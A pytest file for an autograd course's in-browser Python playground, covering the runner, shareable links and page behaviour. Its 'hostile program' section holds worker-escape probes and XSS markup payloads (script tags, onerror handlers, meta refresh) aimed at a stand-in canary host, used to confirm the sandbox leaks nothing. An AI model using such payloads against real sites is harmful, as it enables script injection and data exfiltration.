"""The page `play`: in Chromium, with a worker whose Python is this one; and the runner alone.

With `--pyodide` and a copy of Pyodide it runs in Pyodide, too (test_lite_site.py builds the site with it).
"""

import base64
import hashlib
import io
import json
import keyword
import linecache
import random
import re
import sys
import tempfile
import tokenize
import tomllib
import zlib
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree
from zipfile import ZipFile

import nbformat
import pytest
import serving
from house import ROOT
from widget_page import CHROMIUM, FLAGS, says, still, until

import autograd_nb
from autograd_nb.course import library, playing
from autograd_nb.course.site import live, play_page
from autograd_nb.widgets.pages import source

pytestmark = pytest.mark.usefixtures("without_torch")  # as in a browser
EXAMPLES = tomllib.loads((play_page.HERE / "words.toml").read_text("utf-8"))["examples"]
WORDS = tomllib.loads((play_page.HERE / "words.toml").read_text("utf-8"))["words"]
# The same messages as worker.js, with Python at the other end of a request. Its frame may make this one request; apart
# from that its policy and the page's are the real ones.
PIPE = """
self.onmessage = ({ data: files, ports: [port] }) => {
  port.onmessage = async ({ data }) => {
    if (data.code.includes("while True")) port.postMessage({ printed: "begun" });
    const answer = await fetch("ADDRESS/python", { method: "POST", body: JSON.stringify(data) });
    port.postMessage(answer.ok ? { result: await answer.text() } : { crashed: await answer.text() });
  };
  port.postMessage({ ready: true });
};
"""
ENDLESS = "while True:\n    pass\n"
ABSENT_FLASK = playing.ABSENT.format(name="flask")


# -- the runner --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda example: example["name"])
def test_each_example_has_steps_and_fails_only_where_it_should(example):
    done = playing.run(example["code"])
    assert done["stepper"]["details"]["fast"]["count"] >= 3 and example["look"]
    assert bool(done["error"]) == (example["name"] in ("a freed graph", "a change in place")) == bool(done["why"])
    assert json.loads(json.dumps(done)) == done
    assert (ROOT / "notebooks" / f"{example['chapter']}.ipynb").exists() and "torch" not in sys.modules


@pytest.mark.parametrize(("code", "error"), [
    ("x = (", "SyntaxError: '(' was never closed"), ("import flask", "ModuleNotFoundError: No module named 'flask'"),
    ("1 / 0", "line 1, in <module>\n    1 / 0"), ("def f():\n    f()\nf()", "RecursionError"), ("\0", "null bytes"),
])  # fmt: skip
def test_an_error_is_shown_with_the_programs_own_lines_only(code, error):
    done = playing.run(code)
    assert error in done["error"] and "site-packages" not in done["error"] and "autograd_nb" not in done["error"]
    assert done["stepper"] is None and done["why"] == (ABSENT_FLASK if "flask" in code else "")


def test_a_program_is_told_that_it_gets_no_input():
    done = playing.run("n = input('n? ')")
    assert done["error"].endswith("EOFError: this page has no input for a program: write the value into the program\n")


def test_the_value_of_a_last_expression_is_shown_as_in_a_notebook_and_a_stepper_is_the_pages():
    code = "import torch\nx = torch.tensor(2., requires_grad=True)\ny = x**2\n"
    assert playing.run(f"{code}x*2\ny")["printed"] == "tensor(4., grad_fn=<PowBackward0>)\n"
    assert playing.run(f"{code}y.retain_grad()")["printed"] == ""
    done = playing.run(f"{code}torch.step(y.backward)")
    assert done["stepper"]["titles"] == ["y.backward()"] and done["printed"] == ""
    broken = "class Broken:\n    def __repr__(self): return 1 / 0\nBroken()"
    assert "ZeroDivisionError" in playing.run(broken)["error"]


TRAINING = """
import torch
w, v = torch.tensor(1., requires_grad=True), torch.tensor(1., requires_grad=True)
(w * v).backward()
for _ in range(900):
    loss = (w - 3)**2
    loss.backward()
    w.data -= 0.1 * w.grad
    w.grad = None
"""


def sentences(done):
    (story,) = done["stepper"]["details"]["fast"]["stories"]
    return [step["sentence"] for step in json.loads(zlib.decompress(base64.b64decode(story)))["steps"]]


NESTED = """
import torch
class Twice(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x
    @staticmethod
    def backward(ctx, grad):
        for _ in range(100):
            with torch.enable_grad():
                t = torch.ones(2, requires_grad=True)
                (t * 2).sum().backward()
        return grad
x = torch.tensor(1., requires_grad=True)
Twice.apply(x).backward()
"""


def test_of_a_loop_its_last_pass_is_stepped_alone_or_that_of_the_line():
    """The program has more events than a recording takes, so a single recording would lack the wanted pass."""
    first, last, nested = playing.run(TRAINING, 4), playing.run(TRAINING, 1), playing.run(NESTED)
    assert "(w * v).backward()" in told(first) and first["passes"] == [1, 5, 901]
    assert last["passes"] == [901, 901, 901] and sum("starts at loss" in each for each in sentences(last)) == 1
    assert any("into w.grad" in each for each in sentences(last)[-12:]) and "#" not in "".join(sentences(last))
    assert last["gradients"] == [["w", "None", last["gradients"][0][2]], ["v", "tensor(1.)", ""]][:1]
    assert "line 9, w.grad = None" in last["gradients"][0][2]
    assert nested["error"] == "" and sentences(nested)[-1] == "The backward pass is done."
    assert nested["passes"] == [1, 1, 1]


def test_each_leaf_that_took_part_is_listed_with_its_gradient_and_the_reason_for_one_that_surprises():
    code = """
import torch
net = torch.nn.Linear(2, 1)
x, z = torch.tensor([1., 2.]), torch.tensor(0., requires_grad=True)
alone, zero = torch.tensor(1., requires_grad=True), torch.tensor(3., requires_grad=True)
(net(x).sum() + zero * 0 + torch.sqrt(z) * 0).backward()
alone * 2
"""
    listed = {name: (grad, why) for name, grad, why in playing.run(code)["gradients"]}
    assert [*listed] == ["net.weight", "net.bias", "z", "alone", "zero"]
    assert listed["net.weight"] == ("tensor([[1., 2.]])", "") and listed["net.bias"][1] == ""
    assert listed["z"][0] == "tensor(nan)" and "derivative of sqrt is not finite at z = 0" in listed["z"][1]
    assert listed["alone"][0] == "None" and "alone" in listed["alone"][1]
    assert listed["zero"][0] == "tensor(0.)" and "its other factor is zero" in listed["zero"][1]
    assert all("_" not in why.replace("_grad", "") for _, why in listed.values())


def told(done):
    (story,) = done["stepper"]["details"]["fast"]["stories"]
    return [line["text"] for line in json.loads(zlib.decompress(base64.b64decode(story)))["code"]]


@pytest.mark.parametrize("ending", ["import sys; sys.exit(3)", "raise SystemExit"])
def test_a_program_may_end_itself(ending):
    done = playing.run(f"print(1)\n{ending}")
    assert (done["error"], done["why"], done["stepper"], done["printed"]) == ("", "", None, "1\n")


def test_why_in_a_program_reads_the_pages_own_recording():
    code = "import torch\nx = torch.tensor(0., requires_grad=True)\ny = torch.sqrt(x) * 0\ny.backward()\ntorch.why(x)"
    assert "the derivative of sqrt is not finite at x = 0 (line 3" in playing.run(code)["printed"]


def test_what_a_program_prints_is_cut():
    done = playing.run("for n in range(1_000_000): print(n)")
    assert len(done["printed"]) <= playing.MOST + len(playing.FULL) and done["printed"].endswith(playing.FULL)


def test_what_a_program_prints_is_said_at_once_and_all_of_it_once():
    said = []
    done = playing.run("for n in range(20_000): print(n)", say=said.append)
    assert said[:2] == ["0", "\n"] and "".join(said) == done["printed"]


def test_the_stepper_opens_at_the_pass_of_the_cursors_line_or_at_the_last():
    code = EXAMPLES[1]["code"].replace("for _ in range(2):\n    (x * 3).backward()\n    print(x.grad)",
                                       "(x * 3).backward()\n(x * 4).backward()")  # fmt: skip
    lines = [number for number, line in enumerate(code.split("\n"), 1) if "backward" in line]
    first, second, last = (playing.run(code, line)["stepper"]["step"] for line in (*lines, 1))
    assert 0 < first < second == last


# -- links of a notebook's steppers ------------------------------------------------------------------------------------

NOTEBOOK = ["import torch", "x = torch.tensor(2., requires_grad=True)", "unused = 3", "%matplotlib inline", "y = x**2",
            "y.backward(retain_graph=True)"]  # fmt: skip


@pytest.fixture
def in_notebook(monkeypatch):
    """A function that runs cells in a shell, then a last one, and gives its value."""
    cells, names = [""], {}
    monkeypatch.setattr("IPython.get_ipython", lambda: SimpleNamespace(user_ns={"In": cells}))
    monkeypatch.setenv("AUTOGRAD_NB_SITE", "https://a.b/course/")

    def run(cell):
        with autograd_nb.as_torch():
            cells.extend(NOTEBOOK)
            for each in NOTEBOOK:
                exec("" if each[0] == "%" else each, names)
            cells.append(cell)
            *before, last = cell.split("\n")
            exec("\n".join(before), names)
            return eval(last, names)

    return run


def test_a_stepper_in_a_notebook_has_a_link_to_itself(in_notebook):
    shown = in_notebook("torch.step(y.backward)")
    place, _, held = shown.link.partition("#code=")
    code = unpacked(held)
    assert place == "https://a.b/course/play/" and "unused" not in code and "retain_graph" in code
    there = playing.run(code)["stepper"]
    assert there["details"]["fast"]["count"] == shown.count and there["titles"] == shown.titles
    assert "AccumulateGrad adds 4 to x.grad: 4 becomes 8." in shown.trace.text()


@pytest.mark.parametrize(("cell", "site"), [
    ("torch.step(y.backward)", ""), ("import widgets_of_mine\ntorch.step(y.backward)", "https://a.b"),
    (f"'{'0123456789' * 20_000}'\ntorch.step(y.backward)", "https://a.b")])  # fmt: skip
def test_a_stepper_has_no_link_where_there_is_no_site_or_the_program_cannot_be_in_one(
        in_notebook, monkeypatch, cell, site):
    monkeypatch.setenv("AUTOGRAD_NB_SITE", site)
    monkeypatch.setitem(sys.modules, "widgets_of_mine", SimpleNamespace())
    random.seed(0)
    cell = re.sub("0123456789", lambda _: f"{random.random()}", cell)
    assert in_notebook(cell).link == ""


def unpacked(held):
    return zlib.decompress(base64.urlsafe_b64decode(held + "=" * (-len(held) % 4)), -15).decode()


# -- links of the course's cells ---------------------------------------------------------------------------------------


def plain(text):
    """A text without the parts that another run, or another place of the same code, writes differently."""
    return re.sub(r"( object)? at 0x[0-9a-f]+|\((In \[\d+\], )?line \d+, ", "", text).strip()


def stored(cell):
    """A notebook cell's printed text, and the error that ended it."""
    printed, error = "", ""
    for output in cell.outputs:
        if output.output_type == "error":
            error = f"{output.ename}: {output.evalue}"
        elif output.get("name", "stdout") == "stdout":
            shown = output.get("text") or output.data.get("text/plain", "")
            printed += "" if shown.startswith("Stepper: ") else shown
    return printed, error


@pytest.mark.parametrize("notebook", library.notebooks_of(library.course_source()), ids=lambda path: path.stem)
def test_each_cell_that_opens_in_play_does_there_what_it_did_in_its_chapter(notebook):
    for cell, code in live.programs_of(nbformat.read(notebook, 4)):
        printed, raised, before = io.StringIO(), None, autograd_nb.get_rng_state()
        linecache.cache[playing.FILE] = len(code), None, code.splitlines(True), playing.FILE
        with autograd_nb.as_torch(), redirect_stdout(printed), redirect_stderr(io.StringIO()):
            try:
                value = playing.value_of(code, {"__name__": "__main__", "input": playing.no_input})
                if value is not None and not isinstance(value, playing.TextStepper):
                    print(repr(value))
            except Exception as error:
                raised = error
        expected, error = stored(cell)
        assert (f"{type(raised).__name__}: {raised}" if raised else "") == error, code
        chance = "manual_seed" not in code and not autograd_nb.equal(autograd_nb.get_rng_state(), before)
        if not chance and notebook.stem[:2] != "18" and "bench(" not in code:  # chapter 18 ran on PyTorch
            assert plain(expected) in plain(printed.getvalue()), code


# -- the page ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def address():
    """A site with the page, and with files of Pyodide's names that hold nothing."""
    with tempfile.TemporaryDirectory() as folder:
        wheel = Path(folder, "autograd_nb-0.0-py3-none-any.whl")
        ZipFile(wheel, "w").close()
        play_page.write(Path(folder), wheel, "../pyodide/")
        there = Path(folder, "pyodide")
        there.mkdir()
        for name in (*play_page.FILES, "numpy.whl"):
            (there / name).write_bytes(b"\0asm\1\0\0\0" if name.endswith(".wasm") else b"")
        numpy = {"file_name": "numpy.whl", "sha256": hashlib.sha256(b"").hexdigest()}
        (there / "pyodide-lock.json").write_text(json.dumps({"packages": {"numpy": numpy}}))
        with serving.folder(folder) as address:
            yield f"{address}/play/"


@pytest.fixture
def play(browser, address):
    """A function that opens the page; errors in it fail the test, and so does a request elsewhere."""
    contexts, wrong = [], []
    policy = (play_page.HERE / "python.html").read_text("utf-8")
    policy = policy.replace("'none';", f"'none'; connect-src {address};", 1)
    site = address.removesuffix("play/")

    def python(route):
        asked = json.loads(route.request.post_data)
        if asked["code"].endswith(ENDLESS):
            return  # no answer comes
        answer(route, body=json.dumps(playing.run(asked["code"], asked["line"])))

    def open_(more="", width=1280, **options):
        contexts.append(browser.new_context(viewport={"width": width, "height": 800}, **options))
        page = contexts[-1].new_page()
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("request", lambda request: None if request.url.startswith(("data:", "blob:", site)) else
                wrong.append(request.url))  # fmt: skip
        contexts[-1].route("**/worker.js*", lambda route: route.fulfill(body=PIPE.replace("ADDRESS/", address)))
        contexts[-1].route("**/python.html", lambda route: route.fulfill(body=policy, content_type="text/html"))
        contexts[-1].route("**/python", python)
        page.goto(address + more)
        return page

    yield open_
    for context in contexts:
        context.close()
    assert wrong == []


def answer(route, **options):
    """Answer a request of the frame, which has nobody's origin."""
    route.fulfill(headers={"Access-Control-Allow-Origin": "*"}, **options)


def run(page, code=None):
    if code is not None:
        page.get_by_role("textbox", name="Program").fill(code)
    page.get_by_role("button", name="Run").click()


state = "#state"


def run_to_the_end(page, code=None):
    """Run a program and wait until its stepper is there with all pictures."""
    run(page, code)
    says(page.locator(state), WORDS["done"])
    still(page)


@pytest.mark.browser
def test_an_error_is_shown_with_its_why_and_a_syntax_error_without(play):
    page = play()
    page.get_by_label("Example").select_option("a freed graph")
    until(lambda: "What did the first backward free?" in page.locator("#look").inner_text())
    run(page)
    says(page.locator("#error"), "RuntimeError: Trying to backward through the graph a second time")
    until(lambda: "y.backward()" in page.locator("#why").inner_text())
    run(page, "x = (")
    says(page.locator("#error"), "SyntaxError")
    until(lambda: page.locator("#why").is_hidden() and page.locator("#walk").inner_text() == "")
    run(page, "print('<img src=x onerror=alert(1)>')")
    says(page.locator("#printed"), "<img src=x")


@pytest.mark.browser
def test_an_endless_program_is_ended_and_the_next_one_runs(play):
    page = play()
    page.clock.install()
    run(page, ENDLESS)
    says(page.locator(state), WORDS["running"])
    page.clock.fast_forward(10_001)
    says(page.locator(state), "took more than 10 seconds")
    run(page, "print(7)")
    says(page.locator("#printed"), "7")


@pytest.mark.browser
def test_while_a_program_runs_the_python_of_the_next_run_starts_and_a_frame_that_does_not_answer_is_left(play):
    page, workers, framed = play(), [], []
    page.on("worker", lambda worker: workers.append(worker))
    page.on("frameattached", lambda frame: framed.append(frame))
    run(page, ENDLESS)
    says(page.locator("#printed"), "begun")
    until(lambda: len(workers) == 2)
    page.get_by_role("button", name="Stop").click()
    says(page.locator(state), WORDS["stopped"])
    run(page, "print(7)")
    says(page.locator("#printed"), "7")
    until(lambda: len(workers) == 3)
    assert len(framed) == 1
    page.clock.install()
    run(page, ENDLESS)
    says(page.locator(state), WORDS["running"])
    page.clock.fast_forward(10_001)
    says(page.locator(state), "took more than 10 seconds")
    until(lambda: len(framed) == 2)


@pytest.mark.browser
def test_the_colours_of_a_program_are_those_of_pythons_tokenizer(play):
    """Over the examples and all programs of the course."""
    page = play()
    notebooks = library.notebooks_of(library.course_source())
    programs = [code for path in notebooks for _, code in live.programs_of(nbformat.read(path, 4))]
    programs += [*(example["code"] for example in EXAMPLES), STRINGS]
    wrong = {}
    for code in dict.fromkeys(programs):
        page.get_by_role("textbox", name="Program").fill(code)
        shown = page.eval_on_selector_all("#coloured span", "all => all.map((one) => [one.className, one.innerText])")
        if [*map(tuple, shown)] != coloured(code):
            wrong[code] = shown
    assert len({*programs}) > 100 and wrong == {}
    until(lambda: page.locator("#coloured").inner_text() == f"{code}\n")


STRINGS = r"""x = rb'\'' + f"{1}#" + b"" # it's
y = '''a
"b" # c\''' is''' + "d\"\\" + 'e'
z = .5e-3 + 1_000 + 0xff + 2j + x1 - 1.
async def isle(): return not None if z in [1.] else lambda: y
"""


def coloured(code):
    """(kind, text) of each part of a program that has a colour, by Python's own tokenizer."""
    parts, begun = [], None
    kinds = {tokenize.COMMENT: "comment", tokenize.STRING: "string", tokenize.NUMBER: "number"}
    lines = code.splitlines(keepends=True)
    for kind, text, start, end, _ in tokenize.generate_tokens(io.StringIO(code).readline):
        if tokenize.tok_name[kind] == "FSTRING_START":  # from Python 3.12 on
            begun = begun or start
        elif tokenize.tok_name[kind] == "FSTRING_END":
            inside = lines[begun[0] - 1 : end[0]]
            inside[-1] = inside[-1][: end[1]]
            parts.append(("string", "".join(inside)[begun[1] :]))
            begun = None
        elif not begun and (kind in kinds or keyword.iskeyword(text)):
            parts.append((kinds.get(kind, "keyword"), text))
    return parts


@pytest.mark.browser
def test_the_field_marks_the_line_of_the_step_until_the_program_changes(play):
    page = play()
    run_to_the_end(page, EXAMPLES[3]["code"] + "# more\n" * 40)
    field, colours = page.get_by_role("textbox", name="Program"), page.locator("#coloured")
    seen = {}
    for step in range(page.locator("#walk input[type=range]").evaluate("each => each.max * 1") + 1):
        page.get_by_role("slider").first.fill(str(step))
        line = page.locator("#walk [aria-current]").evaluate("each => each.value")
        shown = page.locator("#program").evaluate("each => getComputedStyle(each).getPropertyValue('--line')")
        seen[line] = shown
    assert [*seen] == [4, 6, 7] and all(shown == str(line) for line, shown in seen.items())
    until(lambda: "gradient" in colours.evaluate("each => getComputedStyle(each).backgroundImage"))
    field.evaluate("each => { each.scrollTop = 100; }")
    until(lambda: colours.evaluate("each => each.scrollTop") == 100)
    field.press("End")
    field.type("#")
    until(lambda: colours.evaluate("each => getComputedStyle(each).backgroundImage") == "none")
    field.press("Backspace")
    until(lambda: "gradient" in colours.evaluate("each => getComputedStyle(each).backgroundImage"))


@pytest.mark.browser
def test_on_a_phone_the_picture_of_each_example_is_there_from_the_loss_to_the_leaf(play):
    page = play(width=390)
    for example in EXAMPLES:
        page.get_by_label("Example").select_option(example["name"])
        run(page)
        until(lambda: page.get_by_role("button", name="Run").is_enabled())
        still(page)
        until(lambda: page.evaluate("""() => {
            const { left, right } = document.querySelector("#walk .anb-figure")?.getBoundingClientRect() ?? {};
            const boxes = [...document.querySelectorAll("#walk g[data-kind=box]")];
            return boxes.length && boxes.every((each) => each.getBoundingClientRect().left >= left
                && each.getBoundingClientRect().right <= right);
        }"""))


@pytest.mark.browser
def test_nothing_that_is_typed_is_lost(play):
    page = play()
    field, examples = page.get_by_role("textbox", name="Program"), page.get_by_label("Example")
    field.fill("mine = 1")
    page.reload()
    says(page.locator(state), WORDS["draft"])
    until(lambda: field.input_value() == "mine = 1")
    examples.select_option("detach")
    until(lambda: "detach()" in field.input_value() and "one way only" in page.locator("#look").inner_text())
    until(lambda: page.locator("#chapter").get_attribute("href") == "../10_switching_off.html")
    examples.select_option(WORDS["typed"])
    until(lambda: field.input_value() == "mine = 1" and not page.locator("#look").inner_text())
    examples.select_option("detach")
    field.focus()
    page.keyboard.press("Control+z")
    until(lambda: field.input_value() == "mine = 1")
    page.goto(f"{page.url}#code={playing_link('theirs = 2')}")
    says(page.locator(state), WORDS["shared"])
    assert field.input_value() == "theirs = 2"
    field.fill("theirs = 3")
    page.go_back()
    until(lambda: field.input_value() == "mine = 1")
    page.go_forward()
    until(lambda: field.input_value() == "theirs = 3")
    examples.select_option(WORDS["given"])
    assert field.input_value() == "theirs = 2"


@pytest.mark.browser
def test_a_line_after_a_colon_is_indented(play):
    page = play()
    field = page.get_by_role("textbox", name="Program")
    field.fill("")
    field.type("for n in range(2):\nprint(n)\nprint(2)")
    until(lambda: field.input_value() == "for n in range(2):\n    print(n)\n    print(2)")


@pytest.mark.browser
def test_a_visitor_finds_the_course_from_it_and_a_sentence_without_script(play, browser, address):
    page = play("?embed")
    full = page.get_by_role("link", name="Open in full")
    until(lambda: full.get_attribute("href") == "/play/" and full.get_attribute("target") == "_blank")
    page = play()
    until(lambda: page.get_by_role("link", name="autograd_nb").get_attribute("href") == "../index.html")
    assert not page.get_by_role("link", name="Open in full").is_visible()
    page.route("**/index.html?*", lambda route: route.fulfill(body="found"))
    page.get_by_role("searchbox", name="Search the course").fill("in place & more")
    page.keyboard.press("Enter")
    page.wait_for_url("**/index.html?search=in+place+%26+more")
    plain = browser.new_context(java_script_enabled=False)
    still_page = plain.new_page()
    still_page.goto(address)
    until(lambda: "it needs JavaScript" in still_page.locator("noscript").inner_text())
    plain.close()


@pytest.mark.browser
def test_a_link_holds_the_program_and_the_step_and_runs_nothing_by_itself(play):
    page = play(permissions=["clipboard-read", "clipboard-write"])
    code = "import torch\nx = torch.tensor(3., requires_grad=True)\n(x * x).backward()  # größer\n"
    run_to_the_end(page, code)
    page.get_by_role("slider").first.focus()
    page.keyboard.press("End")
    page.get_by_role("button", name="Copy link").click()
    says(page.locator(state), WORDS["copied"])
    link = page.evaluate("navigator.clipboard.readText()")
    assert link == page.url and "#code=" in link and "&step=" in link and len(link) < 400
    other = play(link.rpartition("/")[2])
    says(other.locator(state), WORDS["shared"])
    until(lambda: other.get_by_role("textbox", name="Program").input_value() == code)
    until(lambda: other.locator("#walk").inner_text() == "")
    run_to_the_end(other)
    until(lambda: other.locator("#walk").inner_text() == page.locator("#walk").inner_text())


@pytest.mark.browser
def test_a_link_that_cannot_be_read_is_told(play, address):
    letters = zlib.compress(b"#" * 10_000_000, 9, -15)  # more than a program may have
    huge = base64.urlsafe_b64encode(letters).decode().rstrip("=")
    page = play()
    for code in ("", "!!!", "AAAA", "%3Cscript%3E", "eNor", f"{huge}&step=-1"):
        page.goto("about:blank")
        page.goto(f"{address}#code={code}")
        says(page.locator(state), WORDS["broken"])
        until(lambda: page.get_by_role("textbox", name="Program").input_value())
    page = play(f"#code={playing_link('x = 1')}&step=<img>")
    until(lambda: page.get_by_role("textbox", name="Program").input_value() == "x = 1")
    run(page)
    says(page.locator(state), WORDS["nothing"])


@pytest.mark.browser
def test_a_program_that_is_too_long_stays_in_the_field_and_gets_no_link(play):
    page = play()
    digits = "".join(str(number * 7919 % 100_003) for number in range(22_000))
    long = "".join(f"# {digits[place : place + 5000]}\n" for place in range(0, 105_000, 5000))
    run(page, long)
    says(page.locator(state), "more than 100,000 letters")
    page.get_by_role("button", name="Copy link").click()
    says(page.locator(state), "The link would have more than 8,000 letters")
    until(lambda: page.get_by_role("textbox", name="Program").input_value() == long)


@pytest.mark.browser
@pytest.mark.parametrize(("width", "scheme", "more"), [
    (1280, "light", ""), (390, "dark", ""), (390, "light", "?embed")])  # fmt: skip
def test_it_fits_narrow_dark_and_embedded_and_is_accessible(play, width, scheme, more):
    from axe_core_python.sync_playwright import Axe

    page = play(more, width=width, color_scheme=scheme)
    run_to_the_end(page)
    until(lambda: page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
    until(lambda: (page.locator("header").bounding_box()["height"] > 20) == (not more))
    assert [each["id"] for each in Axe().run(page)["violations"]] == []


@pytest.mark.browser
@pytest.mark.parametrize(("file", "refused"), [
    ("worker.js", "off"), ("pyodide.asm.wasm", "absent"), ("numpy.whl", "other bytes"),
    ("autograd_nb-0.0-py3-none-any.whl", "off")])  # fmt: skip
def test_a_download_that_fails_is_told_and_tried_again(play, file, refused):
    page = play()
    page.route(f"**/{file}", lambda route: route.abort() if refused == "off" else route.fulfill(
        status=404 if refused == "absent" else 200, body="bytes"), times=1)  # fmt: skip
    run(page)
    says(page.locator(state), WORDS["offline"])
    run(page, "print(7)")
    says(page.locator("#printed"), "7")


@pytest.mark.browser
def test_a_program_that_breaks_python_itself_is_told_and_the_next_one_runs(play):
    page = play()
    page.context.route("**/python", lambda route: answer(route, status=500, body="Maximum call stack size exceeded"))
    run(page)
    says(page.locator(state), WORDS["crashed"].replace("{error}", "Maximum call stack size exceeded"))
    page.context.unroute("**/python")
    page.context.route("**/python", lambda route: answer(route, body=json.dumps(playing.run("print(7)"))))
    run(page)
    says(page.locator("#printed"), "7")


@pytest.mark.browser
def test_two_tabs_and_a_browser_that_stores_nothing_run_programs_all_the_same(play):
    page = play()
    other = page.context.new_page()
    other.add_init_script("""for (const store of ["localStorage", "sessionStorage", "indexedDB", "caches"])
        Object.defineProperty(self, store, { get() { throw new DOMException("denied", "SecurityError"); } });""")
    other.goto(page.url)
    run(page, "print(1)")
    run(other, "print(2)")
    says(page.locator("#printed"), "1")
    says(other.locator("#printed"), "2")
    until(lambda: page.get_by_role("textbox", name="Program").input_value() == "print(1)")


def playing_link(code):
    return base64.urlsafe_b64encode(zlib.compress(code.encode(), 9, -15)).decode().rstrip("=")


@pytest.mark.browser
def test_a_program_is_typed_run_and_stepped_by_keys_alone(play):
    page = play()
    while page.evaluate("document.activeElement.id") != "code":
        page.keyboard.press("Tab")
    page.keyboard.press("Control+a")
    page.keyboard.type("import torch\nx = torch.tensor(3., requires_grad=True)\n(x * x).backward()")
    page.keyboard.press("Control+Enter")
    says(page.locator(state), WORDS["done"])
    still(page)
    before = page.locator("#walk").inner_text()
    while page.evaluate("document.activeElement.type") != "range":
        page.keyboard.press("Tab")
    page.keyboard.press("ArrowRight")
    until(lambda: page.locator("#walk").inner_text() != before)


# -- a hostile program -------------------------------------------------------------------------------------------------

# A program can do whatever a worker can. Each of these tries one way out; what it gets hold of goes into `hits`.
WAYS = """
const far = "FAR/canary?";
const one = (of, well, ...ill) => new Promise((resolve, reject) => {
  of[well] = resolve;
  for (const each of ill) of[each] = reject;
});
const ways = {
  origin: () => { if (self.origin !== "null") return true; throw 0; },
  indexedDB: () => one(indexedDB.open("theirs"), "onsuccess", "onerror"),
  databases: () => indexedDB.databases(),
  caches: () => caches.open("theirs"),
  files: () => navigator.storage.getDirectory(),
  localStorage: () => localStorage.length,
  cookies: () => cookieStore.getAll(),
  locks: () => navigator.locks.query(),
  fetch: () => fetch(far + "fetch"),
  no_cors: () => fetch(far + "no_cors", { mode: "no-cors" }),
  own_site: () => fetch("SITE/play/words"),
  request: () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", far + "request", false);
    asked.send();
  },
  scripts: () => importScripts(far + "scripts"),
  module: () => import(far + "module"),
  evaluated: () => new Function("return 1")(),
  socket: () => one(new WebSocket(far.replace("http", "ws")), "onopen", "onerror", "onclose"),
  events: () => one(new EventSource(far + "events"), "onopen", "onerror"),
  transport: () => new WebTransport(far.replace("http:", "https:")).ready,
  connection: () => new RTCPeerConnection(),
  beacon: () => { if (!navigator.sendBeacon(far + "beacon")) throw 0; },
  service: () => navigator.serviceWorker.register("SITE/play/worker.js"),
  notice: () => { if (Notification.permission !== "granted") throw 0; },
  window: () => window.parent.document,
  inner: () => {
    const text = `fetch("${far}inner", { mode: "no-cors" }).then(() => postMessage(1))`;
    return one(new Worker(URL.createObjectURL(new Blob([text]))), "onmessage", "onerror");
  },
  outer: () => one(new Worker(far + "outer"), "onmessage", "onerror"),
};
async function tried() {
  new BroadcastChannel("theirs").postMessage("canary");
  self.postMessage({ canary: 1 });
  const hits = [];
  const late = () => new Promise((_, reject) => setTimeout(reject, 2000));
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    try {
      await Promise.race([way(), late()]);
      hits.push(name);
    } catch {}
  }));
  return { result: JSON.stringify({ ...RESULT, printed: `hits: ${hits}.` }) };
}
"""
CANARY = """
self.onmessage = ({ data: files, ports: [port] }) => {
  port.onmessage = async () => {
    port.postMessage(await tried());
    port.postMessage({ result: "{}" });
    port.postMessage({ printed: "more" });
  };
  port.postMessage({ ready: true });
};
"""
# markup that leads away, loads something or runs a script, wherever a page takes it over as it stands
MARKUP = """<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh"
content="0;url=FAR/canary?meta"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="FAR/canary?frame"/><form
xmlns="http://www.w3.org/1999/xhtml" action="FAR/canary?form"><input autofocus="1" onfocus="canary()"/></form><img
xmlns="http://www.w3.org/1999/xhtml" src="FAR/canary?img" onerror="canary()"/><link rel="prefetch"
xmlns="http://www.w3.org/1999/xhtml" href="FAR/canary?prefetch"/></foreignObject>
<a href="FAR/canary?a"><text>a</text></a><image
href="FAR/canary?image"/><use href="FAR/canary?use#a"/><style>@import url(FAR/canary?style); * { fill:
url(FAR/canary?css#a) }</style><script>canary()</script><rect onclick="canary()" style="fill:url(FAR/canary?look)"
onload="canary()" width="5" height="5"/><animate attributeName="href" onbegin="canary()"/><set onbegin="canary()"/>"""


def hostile(far):
    """The results of a program that put its own markup into each picture and each sentence of its stepper."""
    done = playing.run(EXAMPLES[0]["code"])
    for detail in done["stepper"]["details"].values():
        for place, story in enumerate(detail["stories"]):
            held = json.loads(zlib.decompress(base64.b64decode(story)))
            for slot in held["slots"]:
                slot["forms"] = [MARKUP.replace("FAR", far) + form for form in slot["forms"]]
            for step in held["steps"]:
                step["sentence"] += MARKUP.replace("FAR", far)
            detail["stories"][place] = base64.b64encode(zlib.compress(json.dumps(held).encode())).decode()
    return json.dumps(done | {"error": MARKUP, "why": MARKUP})


LISTEN = """async () => {
  self.heard = [];
  new BroadcastChannel("theirs").onmessage = ({ data }) => heard.push(data);
  addEventListener("message", ({ data }) => heard.push(data));
  self.canary = () => heard.push("script");
  localStorage.theirs = document.cookie = "theirs=1";
  await new Promise((resolve) => (indexedDB.open("theirs").onsuccess = resolve));
  await caches.open("theirs");
}"""


def ready(script, page, far):
    """A hostile script that knows its page, and a server that listens."""
    return script.replace("RESULT", hostile(far)).replace("FAR", far).replace("SITE", page.removesuffix("/play/"))


@contextmanager
def listening(page, folder, monkeypatch):
    """A server elsewhere, and a function that tells what came of a page's program there and in the page."""
    asked, left = [], []
    with serving.folder(folder) as far:
        monkeypatch.setattr(serving.Quiet, "log_request", lambda handler, *_: asked.append(handler.path))
        page.context.on("page", lambda other: left.append(other.url))
        page.on("framenavigated", lambda frame: left.append(frame.url))
        page.evaluate(LISTEN)
        yield far, lambda: {
            "asked": [path for path in asked if "canary" in path], "heard": page.evaluate("heard"),
            "left": [place for place in left if not place.endswith("/play/python.html")]}  # fmt: skip


NOWHERE = {"asked": [], "left": [], "heard": []}


def shows_nothing_hostile(page):
    """After each way in which the steps and pictures of a program are used."""
    until(lambda: page.locator("#walk svg").count())
    until(lambda: "<foreignObject" in page.locator("#error").inner_text())
    for key in ("End", "Home", "ArrowRight", "ArrowRight"):
        page.get_by_role("slider").first.focus()
        page.keyboard.press(key)
        page.locator("#walk svg").first.click()
